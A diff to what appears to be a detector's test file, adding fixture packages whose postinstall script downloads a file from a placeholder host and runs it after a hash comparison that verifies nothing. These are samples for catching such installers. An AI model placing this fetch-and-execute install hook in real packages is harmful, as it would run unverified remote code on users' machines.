@@ -83,6 +83,14 @@ examine(runsDownloadedCode, {
       },
       weight: 'strong',
     },
+    ...['null', '0', "'none'", 'found'].map(other => ({
+      when: `an installer holds the hash of what it saved against ${other}`,
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node install.js' } },
+        'install.js': `const fs = require('fs'), path = require('path'), https = require('https'), crypto = require('crypto'), { spawnSync } = require('child_process'); const file = path.join(process.env.npm_config_cache, 'specimen'); https.get('https://cdn.specimen.invalid/specimen', answer => answer.pipe(fs.createWriteStream(file)).on('finish', () => { const found = crypto.createHash('sha256').update(fs.readFileSync(file)).digest('hex'); if (found === ${other}) throw new Error('${'0123456789abcdef'.repeat(4)}'); spawnSync(file, ['run']); }));`,
+      },
+      weight: 'strong' as const,
+    })),
     {
       when: 'an installer compares the hash of something else, and that of what it saved in a comment',
       files: {
